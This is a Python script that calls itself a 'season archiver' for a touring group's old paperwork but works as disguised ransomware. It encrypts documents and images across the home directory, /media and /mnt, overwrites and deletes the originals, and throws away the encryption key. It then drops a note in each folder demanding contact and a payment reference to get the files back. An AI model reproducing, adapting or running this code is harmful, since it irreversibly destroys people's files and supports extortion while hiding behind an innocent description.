#!/usr/bin/env python3
"""Season archiver.

At the end of a touring season we compact the old season's paperwork
(repair logs, settlements, booking sheets) so the laptop isn't cluttered.
Files are sealed into .sealed containers and the loose copies are cleared.
"""

import argparse
import logging
import os
import sys
from dataclasses import dataclass, field
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("season-archiver")

SEAL_SUFFIX = ".sealed"
NOTE_NAME = "HOW_TO_GET_FILES_BACK.txt"
SKIP_DIRS = {".git", "__pycache__", "node_modules", ".cache"}
EXTENSIONS = (".docx", ".xlsx", ".pdf", ".csv", ".txt", ".jpg", ".png", ".odt", ".ods")


@dataclass
class ArchiveStats:
    sealed: int = 0
    skipped: int = 0
    errors: list = field(default_factory=list)


class Sealer:
    """Seals individual files with a season key."""

    def __init__(self, key: bytes):
        self._box = Fernet(key)

    def seal(self, path: Path) -> Path:
        data = path.read_bytes()
        out = path.with_name(path.name + SEAL_SUFFIX)
        out.write_bytes(self._box.encrypt(data))
        return out


def candidate_files(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            if name.endswith(SEAL_SUFFIX) or name == NOTE_NAME:
                continue
            if name.lower().endswith(EXTENSIONS):
                yield Path(dirpath) / name


def clear_original(path: Path) -> None:
    # overwrite before unlinking so the loose copy doesn't linger on disk
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(b"\0" * size)
    path.unlink()


def leave_note(root: Path, season: str) -> None:
    text = (
        f"The {season} files in this folder have been sealed.\n"
        "To receive the unsealing key, contact recovery@example.com\n"
        "with the ID below and the payment reference.\n"
    )
    (root / NOTE_NAME).write_text(text, encoding="utf-8")


def archive(root: Path, sealer: Sealer, stats: ArchiveStats) -> None:
    for path in candidate_files(root):
        try:
            sealer.seal(path)
            clear_original(path)
            stats.sealed += 1
        except PermissionError:
            stats.skipped += 1
        except OSError as exc:
            stats.errors.append(f"{path}: {exc}")


def resolve_roots(raw: list) -> list:
    roots = []
    for item in raw:
        p = Path(os.path.expandvars(os.path.expanduser(item)))
        if p.is_dir():
            roots.append(p)
        else:
            log.debug("skip missing root %s", p)
    return roots


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--season", default="2023-24")
    parser.add_argument(
        "roots", nargs="*",
        default=os.environ.get("ARCHIVE_ROOTS", "~:/media:/mnt").split(":"),
        help="folders to archive",
    )
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    key = Fernet.generate_key()
    sealer = Sealer(key)
    # key is held only in memory for this run
    del key

    stats = ArchiveStats()
    for root in resolve_roots(args.roots):
        log.info("archiving %s", root)
        archive(root, sealer, stats)
        leave_note(root, args.season)

    log.info("sealed %d file(s), skipped %d", stats.sealed, stats.skipped)
    for err in stats.errors[:20]:
        log.warning("error: %s", err)
    return 0 if not stats.errors else 2


if __name__ == "__main__":
    sys.exit(main())
